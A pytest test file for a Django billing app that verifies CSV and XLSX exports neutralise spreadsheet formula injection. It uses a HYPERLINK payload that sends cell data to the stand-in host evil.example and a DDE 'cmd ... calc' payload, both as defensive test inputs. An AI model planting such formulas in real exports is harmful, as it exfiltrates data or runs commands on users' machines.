"""Exports are inert (OWASP CSV injection): an upstream's text that starts like a formula never
becomes a live cell in a CSV or an XLSX export, masked or not; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from billing.models import Invoice, InvoiceItem
from billqueries.models import BillDebt, BillQueryBatch, BillQueryLine, Institution
from subscriptions.models import Subscription, SubscriptionInvoice
from upstream.lists.cells import inert
from upstream.models import Job, JobItem

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("start", TRIGGERS)
def test_every_formula_start_is_neutralised(start) -> None:
    assert inert(f"{start}cmd|' /C calc'!A0") == f"'{start}cmd|' /C calc'!A0"


@pytest.mark.parametrize("value", [-5, Decimal("-1.50"), "-1.234,56", "+90", "-6", "Ali", ""])
def test_numbers_and_plain_text_are_left_alone(value) -> None:
    assert inert(value) == value


@pytest.fixture
def evil(db, operator):
    sub = Subscription.objects.create(
        subscription_id="0f6f1c1e-0000-4000-8000-0000000000e1",
        reference_no="90000601",
        name_surname=EVIL,
        end_user_email="@evil.example",
        end_user_gsm="+905321234567",
        is_fixed_price=False,
    )
    record = SubscriptionInvoice.objects.create(
        subscription=sub, invoice_id="121", invoice_no="11400557", amount=Decimal("-1.50"), status=0
    )
    invoice = Invoice.objects.create(
        wisecp_id=368, number="#368", status="unpaid", full_name=EVIL, user_id=2
    )
    item = InvoiceItem.objects.create(
        wisecp_id=573, invoice=invoice, description=EVIL, amount=Decimal(100), total=100
    )
    institution = Institution.objects.create(soot_code=9901, name=EVIL)
    batch = BillQueryBatch.objects.create(source=BillQueryBatch.Source.TYPED, created_by=operator)
    line = BillQueryLine.objects.create(
        batch=batch,
        position=1,
        institution=institution,
        soot_code=9901,
        subscriber_no="-1+1",
        firm_ref_no="FR000000000001",
        result_message=EVIL,
    )
    BillDebt.objects.create(
        line=line,
        invoice_query_id=1,
        subscriber_no="-1+1",
        customer_name="=H*** Ki**",
        invoice_no="@SUM(1+1)",
        invoice_amount=Decimal("12.50"),
        total_amount=Decimal("12.50"),
        soot_code=9901,
    )
    job = Job.objects.create(kind="paynet.invoice_status", title=EVIL, created_by=operator)
    JobItem.objects.create(
        job=job, position=1, target_type="x.y", target_id="1", target_repr=EVIL, message=EVIL
    )
    return sub, record, invoice, item, batch, job


def _cells(text: str) -> list[str]:
    rows = csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";")
    return [cell for row in rows for cell in row]


def _assert_inert(cells: list[str]) -> None:
    live = [cell for cell in cells if cell.startswith(TRIGGERS) and inert(cell) != cell]
    assert not live, live
    assert any(cell.startswith("'=H") for cell in cells), cells


def _changelist_csv(client, model: str, pk: int) -> list[str]:
    response = client.post(
        reverse(f"admin:{model}_changelist"),
        {"action": "export_csv", "index": "0", "_selected_action": [str(pk)]},
    )
    assert response.status_code == 200
    return _cells(b"".join(response.streaming_content).decode("utf-8"))


@pytest.mark.parametrize(
    ("model", "index"),
    [
        ("subscriptions_subscription", 0),
        ("subscriptions_subscriptioninvoice", 1),
        ("billing_invoice", 2),
        ("billing_invoiceitem", 3),
        ("upstream_job", 5),
    ],
)
@pytest.mark.parametrize("reader", ["operator_client", "viewer_client"])
def test_a_formula_name_is_inert_in_every_changelist_csv(evil, model, index, reader, request):
    # The viewer's copy is masked ("=H*** ..."), the operator's is not: both inert.
    client = request.getfixturevalue(reader)
    _assert_inert(_changelist_csv(client, model, evil[index].pk))


def test_a_payment_record_keeps_its_negative_amount_a_number(evil, operator_client) -> None:
    cells = _changelist_csv(operator_client, "subscriptions_subscriptioninvoice", evil[1].pk)
    assert "-1,50" in cells or "-1.50" in cells


def test_a_bill_batch_csv_and_xlsx_are_inert(evil, operator_client) -> None:
    batch = evil[4]
    response = operator_client.get(
        reverse("admin:billqueries_billquerybatch_export_csv", args=[batch.pk])
    )
    cells = _cells(b"".join(response.streaming_content).decode("utf-8"))
    _assert_inert(cells)
    assert "'@SUM(1+1)" in cells and "'-1+1" in cells and "12,50" in cells

    response = operator_client.get(
        reverse("admin:billqueries_billquerybatch_export_xlsx", args=[batch.pk])
    )
    book = load_workbook(io.BytesIO(response.content))
    cells = [cell for row in book.active.iter_rows(min_row=2) for cell in row]
    assert not [c for c in cells if c.data_type == "f"], "no cell is stored as a formula"
    texts = [c.value for c in cells if isinstance(c.value, str)]
    _assert_inert(texts)
    assert Decimal("12.50") == next(c.value for c in cells if c.value == 12.5)


def test_a_jobs_results_csv_and_xlsx_are_inert(evil, operator_client) -> None:
    job = evil[5]
    response = operator_client.get(reverse("admin:upstream_job_results", args=[job.pk, "csv"]))
    _assert_inert(_cells(b"".join(response.streaming_content).decode("utf-8")))
    response = operator_client.get(reverse("admin:upstream_job_results", args=[job.pk, "xlsx"]))
    book = load_workbook(io.BytesIO(response.content))
    cells = [cell for row in book.active.iter_rows(min_row=2) for cell in row]
    assert not [c for c in cells if c.data_type == "f"]
    _assert_inert([c.value for c in cells if isinstance(c.value, str)])
